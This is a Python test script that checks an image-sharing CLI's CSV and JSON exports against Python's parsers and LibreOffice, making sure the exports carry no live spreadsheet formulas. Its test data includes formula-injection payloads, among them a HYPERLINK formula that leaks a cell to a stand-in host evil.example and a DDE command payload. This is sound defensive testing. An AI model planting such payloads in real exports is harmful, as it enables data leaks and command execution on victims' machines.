#!/usr/bin/env python3
"""Reads image-share-cli's exports back with Python's own csv and json modules.

A second, independent reader next to the strict Rfc4180Parser of the C++ tests: what Python's csv module
(the de-facto reader of data scripts) gets must be exactly what the simulator served, apart from the
documented `'` put before a cell that a spreadsheet would run as a formula.

Then LibreOffice Calc (headless) imports the exported file twice, with its default CSV options and with
"Trim spaces" and "Evaluate formulas" on: no cell may come out as a formula. The same names written
without the guard do come out as formulas, which shows that the check can fail.

Usage: check_csv.py --cli PATH/image-share-cli --simulator PATH/ecs-simulator
"""

import argparse
import csv
import io
import json
import os
import shutil
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as ElementTree

KEY_ID = "LTAI5tDemoReadOnly0001"
SECRET = "demo-secret-not-a-real-key"
REGION = "cn-hangzhou"
# Label (issue 13) comes last, so that the columns scripts already read keep their places; the run uses an
# empty account book, so every Label is empty.
HEADER = ["RegionId", "ImageId", "ImageName", "Kind", "Principal", "SharedTime", "Label"]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd",
    "\tTabbed",
    "\rCarriage return",
    "Line one\nLine two",
    "Windows\r\nbreak",
    '"Quoted" name',
    "a,b,c",
    "生产-网关-基线",
    '测试,"引号"\n换行',
    "'already quoted",
    "emoji 😀 image",
    "trailing space ",
    "=cmd|' /C calc'!A0",
    # issue 12: after leading whitespace, after LF, full-width
    "  =1+1",
    "\n=1+1",
    "\uff1dSUM(1)",
    "\uff20cmd",
]
STATUSES = ["Creating", "Waiting", "Available", "UnAvailable", "CreateFailed", "Deprecated"]


def dataset():
    images = []
    for i, name in enumerate(HOSTILE):
        accounts = [
            {"AliyunId": "9%011d" % i, "SharedTime": "2024-02-01T09:00:00Z"},
            {"AliyunId": HOSTILE[(i + 3) % len(HOSTILE)]},
        ]
        groups = [HOSTILE[(i + 7) % len(HOSTILE)]] if i % 2 else ["all"]
        images.append({"RegionId": REGION, "ImageId": "m-py%02d" % i, "ImageName": name,
                       "Status": STATUSES[i % len(STATUSES)], "OSName": "Linux",
                       "CreationTime": "2024-01-31T08:00:00Z", "Size": 20,
                       "Accounts": accounts, "ShareGroups": groups})
    # Several pages of 50 accounts.
    images.append({"RegionId": REGION, "ImageId": "m-pybig", "ImageName": "@big", "Status": "Available",
                   "OSName": "Linux", "CreationTime": "2024-01-31T08:00:00Z", "Size": 20,
                   "Accounts": [{"AliyunId": "8%011d" % a, "SharedTime": "2024-03-01T08:00:00Z"}
                                for a in range(123)],
                   "ShareGroups": []})
    return {
        "AccessKeys": [{"AccessKeyId": KEY_ID, "AccessKeySecret": SECRET}],
        "Regions": [{"RegionId": REGION, "LocalName": "Hangzhou",
                     "RegionEndpoint": "ecs.cn-hangzhou.aliyuncs.com"}],
        "Images": images,
    }


def guarded(cell):
    # The writer's rule, restated independently: TAB, CR or LF first, or = + - @ (or their full-width
    # forms) as the first character that is not whitespace.
    if cell and cell[0] in "\t\r\n":
        return "'" + cell
    stripped = cell.lstrip()
    if stripped and stripped[0] in "=+-@\uff1d\uff0b\uff0d\uff20":
        return "'" + cell
    return cell


def sanitized(text):
    # What EcsClient hands out since issue 12 (isb::sanitizedServiceText): C0, DEL, C1, U+2028/U+2029 -> U+FFFD.
    return "".join("\ufffd" if ord(c) < 0x20 or 0x7f <= ord(c) <= 0x9f or c in "\u2028\u2029" else c
                   for c in text)


def expected_rows(data, image_id=None):
    rows = []
    for image in data["Images"]:
        if image_id and image["ImageId"] != image_id:
            continue
        base = [image["RegionId"], image["ImageId"], sanitized(image["ImageName"])]
        for account in image.get("Accounts", []):
            rows.append(base + ["Account", sanitized(account["AliyunId"]), account.get("SharedTime", ""), ""])
        for group in image.get("ShareGroups", []):
            rows.append(base + ["Group", sanitized(group), "", ""])
    return rows


CONFIG_HOME = tempfile.mkdtemp(prefix="isb-csv-config-")


def run_cli(cli, endpoint, args):
    env = {k: v for k, v in os.environ.items() if not k.startswith("ALIBABA_CLOUD_")}
    env["ALIBABA_CLOUD_ACCESS_KEY_ID"] = KEY_ID
    env["ALIBABA_CLOUD_ACCESS_KEY_SECRET"] = SECRET
    # An account book of this machine's user must not label the rows: an empty configuration folder.
    env["XDG_CONFIG_HOME"] = CONFIG_HOME
    result = subprocess.run([cli, "--endpoint", endpoint] + args, env=env, capture_output=True, timeout=120)
    if result.returncode != 0:
        raise AssertionError("image-share-cli %s failed (%d): %s"
                             % (" ".join(args), result.returncode, result.stderr.decode()))


def check_csv(path, bom, rows):
    raw = open(path, "rb").read()
    assert raw.startswith(b"\xef\xbb\xbf") == bom, "BOM expected: %s" % bom
    assert raw.endswith(b"\r\n"), "records end with CRLF"
    # newline="" as the csv module's documentation requires: line breaks inside quoted cells stay as written.
    with open(path, newline="", encoding="utf-8-sig" if bom else "utf-8") as f:
        records = list(csv.reader(f, strict=True))
    assert records[0] == HEADER, records[0]
    want = [[guarded(cell) for cell in row] for row in rows]
    assert len(records) - 1 == len(want), "%d records, expected %d" % (len(records) - 1, len(want))
    for got, exp in zip(records[1:], want):
        assert got == exp, "\n got: %r\nwant: %r" % (got, exp)
    # The same text through a csv.writer (excel dialect) gives the same bytes: nothing non-standard.
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n").writerows(records)
    text = raw.decode("utf-8-sig" if bom else "utf-8")
    assert out.getvalue() == text, "the file differs from what Python's csv.writer would write"


# LibreOffice's CSV import options: separator, quote, UTF-8 (defaults for the rest); then the same with
# "Trim spaces" (token 11) and "Evaluate formulas" (token 13) on.
LIBREOFFICE_IMPORTS = ["44,34,76", "44,34,76,1,,0,false,true,false,false,true,-1,true"]
TABLE_NS = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"


def libreoffice_formulas(soffice, csv_path, folder, options):
    """The cells of `csv_path` that LibreOffice imports as formulas."""
    out = os.path.join(folder, "lo-%d" % LIBREOFFICE_IMPORTS.index(options))
    subprocess.run([soffice, "-env:UserInstallation=file://" + os.path.join(folder, "lo-profile"), "--headless",
                    "--convert-to", "fods", "--infilter=CSV:" + options, "--outdir", out, csv_path],
                   check=True, timeout=120, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    name = os.path.splitext(os.path.basename(csv_path))[0] + ".fods"
    tree = ElementTree.parse(os.path.join(out, name))
    return [cell.get("{%s}formula" % TABLE_NS) for cell in tree.iter("{%s}table-cell" % TABLE_NS)
            if cell.get("{%s}formula" % TABLE_NS)]


def check_libreoffice(csv_path, folder):
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if not soffice:
        print("skip: LibreOffice is not installed (scripts/install-deps installs libreoffice-calc-nogui)")
        return
    # The guard's reason to exist: unguarded, LibreOffice evaluates these.
    unguarded = os.path.join(folder, "unguarded.csv")
    with open(unguarded, "w", encoding="utf-8", newline="") as f:
        csv.writer(f, lineterminator="\r\n").writerows([[name] for name in HOSTILE])
    assert libreoffice_formulas(soffice, unguarded, folder, LIBREOFFICE_IMPORTS[0]), \
        "LibreOffice evaluated no unguarded formula: the check below could not fail"
    trimmed = libreoffice_formulas(soffice, unguarded, folder, LIBREOFFICE_IMPORTS[1])
    assert any("1+1" in formula for formula in trimmed), "' =1+1' is no formula with Trim spaces: %s" % trimmed
    for options in LIBREOFFICE_IMPORTS:
        formulas = libreoffice_formulas(soffice, csv_path, folder, options)
        assert not formulas, "LibreOffice (%s) evaluates exported cells: %s" % (options, formulas)


def check_json(path, data):
    document = json.load(open(path, encoding="utf-8"))
    assert list(document.keys()) == ["ExportedAt", "Endpoint", "RegionId", "Images"], list(document.keys())
    images = [i for i in data["Images"] if i["RegionId"] == REGION]
    assert len(document["Images"]) == len(images)
    for got, image in zip(document["Images"], images):
        assert got["ImageId"] == image["ImageId"]
        assert got["ImageName"] == sanitized(image["ImageName"]), "no ' prefix in JSON"
        assert [a["AliyunId"] for a in got["Accounts"]] == [sanitized(a["AliyunId"]) for a in image["Accounts"]]
        assert [g["Group"] for g in got["ShareGroups"]] == [sanitized(g) for g in image["ShareGroups"]]


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--cli", required=True)
    parser.add_argument("--simulator", required=True)
    options = parser.parse_args()

    data = dataset()
    with tempfile.TemporaryDirectory() as folder:
        data_path = os.path.join(folder, "data.json")
        with open(data_path, "w", encoding="utf-8") as f:
            json.dump(data, f, ensure_ascii=False)
        simulator = subprocess.Popen([options.simulator, "--data", data_path], stdout=subprocess.PIPE,
                                     stderr=subprocess.DEVNULL, text=True)
        try:
            line = simulator.stdout.readline().strip()
            assert line.startswith("listening on "), line
            endpoint = line[len("listening on "):]

            for bom in (False, True):
                path = os.path.join(folder, "region-%s.csv" % bom)
                args = ["export", "--region", REGION, "--all-images", "--output", path]
                run_cli(options.cli, endpoint, args + (["--bom"] if bom else []))
                check_csv(path, bom, expected_rows(data))
            check_libreoffice(os.path.join(folder, "region-False.csv"), folder)

            path = os.path.join(folder, "image.csv")
            run_cli(options.cli, endpoint, ["export", "--region", REGION, "--image", "m-pybig", "--output", path])
            check_csv(path, False, expected_rows(data, "m-pybig"))

            path = os.path.join(folder, "region.json")
            run_cli(options.cli, endpoint, ["export", "--region", REGION, "--all-images", "--format", "json",
                                            "--output", path])
            check_json(path, data)
        finally:
            simulator.terminate()
            simulator.wait(10)
    print("ok: CSV and JSON exports read back with Python's csv and json modules; no formula in LibreOffice")
    return 0


if __name__ == "__main__":
    try:
        sys.exit(main())
    except AssertionError as error:
        print("FAIL:", error, file=sys.stderr)
        sys.exit(1)
